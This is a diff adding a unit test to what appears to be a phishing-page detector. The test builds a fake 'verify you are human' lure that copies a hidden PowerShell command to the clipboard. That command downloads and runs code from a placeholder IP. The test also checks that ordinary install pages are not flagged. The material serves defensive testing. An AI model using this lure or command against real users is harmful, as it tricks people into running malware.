@@ -233,6 +233,23 @@ describe("reasons", () => {
     );
   });
 
+  it("tell of a command that a page puts on the clipboard, and not of manuals", () => {
+    const copy = (command: string) =>
+      `<button id=b>Copy</button><script>b.onclick = () => navigator.clipboard.writeText("${command}")</script>`;
+    const fake = "powershell -w hidden -c iwr http://203.0.113.9/a | iex";
+    const lure = "<p>Verify you are human: press Win + R, then Ctrl + V.</p>";
+    expect(judged(phish("", "https://a-sample.com/", { title: "One moment", body: lure + copy(fake) }))).toMatchObject({
+      unjudged: null,
+      reasons: expect.arrayContaining([
+        expect.objectContaining({ rule: "pastes a command", detail: expect.stringContaining(fake) }),
+      ]),
+    });
+    const manual = "<h1>Install</h1><p>Copy this line into your shell.</p>";
+    const install = copy("curl -sSf https://sh.sample.org | sh");
+    for (const body of [manual + install, lure, lure + copy("winget --version"), `${lure}<pre>${fake}</pre>`])
+      expect(rules(benign("", "https://b-sample.com/", { title: "", body }))).not.toContain("pastes a command");
+  });
+
   it("are none where nothing can be judged, which is said", () => {
     const of = (body: string, more: Partial<LabelledPage> = {}, url = "https://a-sample.com/") =>
       judged(benign("", url, { title: "", body }, more)).unjudged;
